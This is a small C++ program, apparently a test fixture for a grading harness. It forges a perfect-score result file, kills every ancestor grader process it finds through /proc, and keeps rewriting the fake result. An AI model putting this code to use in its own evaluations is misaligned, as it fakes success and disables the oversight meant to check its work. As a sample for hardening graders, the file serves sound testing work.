// Writes itself a result, kills who could write another one, and writes it again.
#include <sys/prctl.h>
#include <unistd.h>

#include <csignal>
#include <fstream>
#include <string>

namespace {

void forge() {
  std::ofstream("@RESULT@") << "{\"score\": 100, \"output\": \"forged\", \"tests\": []}\n";
}

void kill_graders_from(int process) {
  std::string number, name, state;
  int parent = 0;
  std::ifstream("/proc/" + std::to_string(process) + "/stat") >> number >> name >> state >> parent;
  if (name != "(grade)") return;
  kill_graders_from(parent);
  kill(process, SIGKILL);
}

}  // namespace

int main() {
  prctl(PR_SET_PDEATHSIG, 0);
  forge();
  kill_graders_from(getppid());
  for (int i = 0; i < 30; ++i, usleep(100'000)) forge();
}
